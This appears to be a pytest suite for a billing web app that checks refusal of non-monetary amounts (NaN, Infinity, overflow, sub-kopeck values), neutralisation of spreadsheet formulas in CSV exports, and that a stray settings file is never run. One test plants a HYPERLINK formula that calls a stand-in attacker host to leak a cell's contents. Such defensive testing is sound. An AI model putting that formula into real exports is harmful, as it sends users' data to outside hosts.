"""Hostile input: amounts no money can be (NaN, Infinity, 1E+30, a fraction of a kopeck)
get a message under their field or a 400 in every adapter and write nothing; a CSV
export never hands a spreadsheet a live formula; no settings file is executed from the
directory a command starts in."""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import click
import pytest

from billing.money import MoneyError, to_money
from tests.web.api_tools import api_as
from tests.web.conftest import (  # noqa: F401  (the web app's fixtures, shared)
    app,
    as_admin,
    as_cashier,
    client,
    csrf_token,
    db,
    staff,
    submit,
    web_settings,
    web_state,
    web_template,
)

ROOT = Path(__file__).resolve().parents[2]
_NONCE = re.compile(r'name="nonce"[^>]*value="([^"]+)"')

# What each hostile amount is refused as (billing.money's codes, worded by the admin).
HOSTILE = {
    "NaN": ("not_an_amount", "Not an amount"),
    "sNaN": ("not_an_amount", "Not an amount"),
    "Infinity": ("not_an_amount", "Not an amount"),
    "-Infinity": ("not_an_amount", "Not an amount"),
    "1E+30": ("out_of_range", "The amount is too large."),
    "1000000000000.00": ("out_of_range", "The amount is too large."),
    "0.001": ("too_many_decimals", "At most two decimals (kopecks)."),
}
# A form reads amounts as people write them (webapp.numbers): exponent notation is not
# one of those ways, so the field says "not an amount" before the rule's range is asked.
AS_TYPED = {**HOSTILE, "1E+30": ("not_an_amount", "Not an amount")}


def _account(conn, name: str = "Входной Тест", balance: str | None = None) -> int:
    account = conn.execute(
        "INSERT INTO accounts (contract, login, full_name, phone) VALUES"
        " ('90001', 'in90001', %s, '+79160000001') RETURNING id", (name,)).fetchone()[0]
    if balance is not None:
        conn.execute("INSERT INTO ledger_entries (account_id, kind, amount, idempotency_key,"
                     " effective_at) VALUES (%s, 'correction', %s, 'seed', now())",
                     (account, balance))
    return account


def _entries(conn) -> int:
    return conn.execute("SELECT count(*) FROM ledger_entries").fetchone()[0]


@pytest.mark.parametrize("raw", sorted(HOSTILE))
def test_the_one_rule_refuses_each_with_its_code(raw):
    with pytest.raises(MoneyError) as refused:
        to_money(raw)
    assert refused.value.code == HOSTILE[raw][0]


def test_the_rule_takes_every_real_amount_up_to_the_column():
    assert to_money("999999999999.99") == Decimal("999999999999.99")
    assert to_money("-12.5") == Decimal("-12.50") and to_money(" 7 ") == Decimal("7.00")
    with pytest.raises(MoneyError):
        to_money("1E+999999999999")  # beyond the Decimal context: refused, not Overflow


def test_the_cashier_desk_words_each_under_the_amount_and_posts_nothing(as_admin, conn):  # noqa: F811
    account = _account(conn)
    for form_name, url in (("pay", "pay"), ("correction", "correct")):
        for raw, (_, message) in AS_TYPED.items():
            page = as_admin.get(f"/cashier/account/{account}")
            data = {"csrf_token": csrf_token(page.text),
                    "nonce": _NONCE.search(page.text).group(1),
                    "amount": raw, "description": "hostile"}
            answer = as_admin.post(f"/cashier/account/{account}/{url}", data=data)
            assert answer.status_code == 200, (form_name, raw)
            assert "field-error" in answer.text and message in answer.text, (form_name, raw)
    assert _entries(conn) == 0
    assert conn.execute("SELECT balance FROM accounts").fetchone()[0] == 0


def test_admin_forms_word_each_under_the_field_and_write_nothing(as_admin, conn):  # noqa: F811
    """A money column with a validator of its own (max_sum) and one without (min_balance,
    given the rule by every admin form), and an account's credit."""
    tariff = conn.execute("INSERT INTO tariffs (name) VALUES ('Входной') RETURNING id"
                          ).fetchone()[0]
    account = _account(conn)
    for raw, (_, message) in AS_TYPED.items():
        for field, other in (("max_sum", "min_balance"), ("min_balance", "max_sum")):
            page = submit(as_admin, "/promisesettingsview/add", {
                "tariff": str(tariff), "allowed": "y", field: raw, other: "10",
                "days": "5", "cooldown_days": "0"})
            assert page.status_code == 200 and message in page.text, (field, raw)
        page = submit(as_admin, f"/accountview/edit/{account}", {
            "contract": "90001", "login": "in90001", "full_name": "Входной Тест",
            "credit": raw})
        assert page.status_code == 200 and message in page.text, ("credit", raw)
    assert conn.execute("SELECT count(*) FROM promise_settings").fetchone()[0] == 0
    assert conn.execute("SELECT credit FROM accounts WHERE id = %s", (account,)
                        ).fetchone()[0] == 0


def test_the_api_answers_400_naming_the_field_and_writes_nothing(client, conn, staff):  # noqa: F811
    account = _account(conn)
    cashier, admin = api_as(client, "Cashier"), api_as(client, "Admin")
    words = {"not_an_amount": "Not a valid amount", "out_of_range": "out of range",
             "too_many_decimals": "at most two decimals"}
    for raw, (code, _) in HOSTILE.items():
        paid = cashier.post(f"/api/v1/account/{account}/payment",
                            {"amount": raw, "idempotency_key": "hostile"})
        assert paid.status_code == 400, (raw, paid.json)
        assert words[code] in " ".join(paid.json["errors"]["amount"]), (raw, paid.json)
        edited = admin.put(f"/api/v1/account/{account}", {"credit": raw})
        assert edited.status_code == 400, (raw, edited.json)
        assert words[code] in str(edited.json), (raw, edited.json)
    assert _entries(conn) == 0
    assert conn.execute("SELECT credit FROM accounts").fetchone()[0] == 0


def test_the_command_line_refuses_them_as_a_bad_parameter():
    from cli.account_commands import _money

    for raw in HOSTILE:
        with pytest.raises(click.BadParameter):
            _money(raw)
    assert _money("150") == Decimal("150.00")


def test_a_formula_in_a_name_reaches_the_csv_as_text(as_admin, conn):  # noqa: F811
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    _account(conn, name=formula, balance="-12.50")
    response = as_admin.get("/reports/debtors/?format=csv")
    assert response.status_code == 200
    header, *rows = csv.reader(response.get_data(as_text=True).lstrip("\ufeff").splitlines())
    assert header[:4] == ["Contract", "Full name", "Phone", "Balance"] and len(rows) == 1
    row = rows[0]
    assert row[0] == "90001"
    assert row[1] == "'" + formula  # neutralised: a spreadsheet shows it as text
    assert row[2] == "+79160000001"  # a phone number computes nothing: left as it is
    assert row[3] == "-12.50"  # a negative amount stays a number
    page = as_admin.get("/reports/debtors/")
    assert "HYPERLINK" in page.text and "'=HYPERLINK" not in page.text  # the page is HTML


@pytest.mark.parametrize("cell", ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_every_formula_start_is_neutralised(cell):
    from webapp.views.reports import spreadsheet_safe

    assert spreadsheet_safe(cell) == "'" + cell
    for number in ("-12.50", "+79001234567", "42", "-"):
        assert spreadsheet_safe(number) == number


def test_a_settings_file_in_the_current_directory_is_never_run(tmp_path):
    marker = tmp_path / "ran"
    (tmp_path / "settings_local.py").write_text(
        f"open({str(marker)!r}, 'w').write('x')\nTIME_ZONE = 'Asia/Tokyo'\n")
    probe = ("from billing import settings\n"
             "s = settings.load()\n"
             "print(s.TIME_ZONE, settings.settings_file())\n")
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, env=env,
                          capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    assert "Asia/Tokyo" not in done.stdout and str(tmp_path) not in done.stdout
